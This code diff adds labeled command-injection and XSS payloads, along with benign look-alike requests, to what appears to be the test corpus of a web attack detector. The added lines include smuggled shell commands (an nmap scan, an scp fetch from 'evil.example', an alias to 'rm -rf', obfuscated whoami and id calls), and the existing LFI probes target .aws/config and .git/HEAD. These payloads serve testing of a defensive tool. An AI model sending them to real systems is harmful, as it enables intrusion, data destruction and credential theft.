@@ -298,6 +298,13 @@ OWN_VARIANTS = [
     ("lfi", req("/.git/HEAD")),
     ("lfi", req("/.aws/config")),
     ("lfi", req("/logs/debug.log")),
+    ("cmdi", req("/v?a=" + quote(";nmap --top-ports 10 10.0.0.1"))),
+    ("cmdi", req("/v?a=" + quote("|scp user@evil.example:/x ."))),
+    ("cmdi", req("/v?a=" + quote("alias ls='rm -rf'"))),
+    ("cmdi", req("/v?a=" + quote("wh``oami"))),
+    ("cmdi", req("/v?a=" + quote("uname$() -a"))),
+    ("cmdi", req("/v?a=" + quote("$((1+1)) && id"))),
+    ("xss", req("/v?" + quote(" onmouseover=") + "=1")),
 ]
 
 
@@ -317,6 +324,9 @@ OWN_VARIANTS_BENIGN = [
     req("/static/app.key.js"),
     req("/.well-known/security.txt"),
     req("/v?price=" + quote("${amount}USD")),
+    req("/v?q=" + quote("; see the notes below")),
+    req("/v?q=" + quote("| Name | Size |")),
+    req("/v?online=1&onboarding=done"),
 ]
 
 
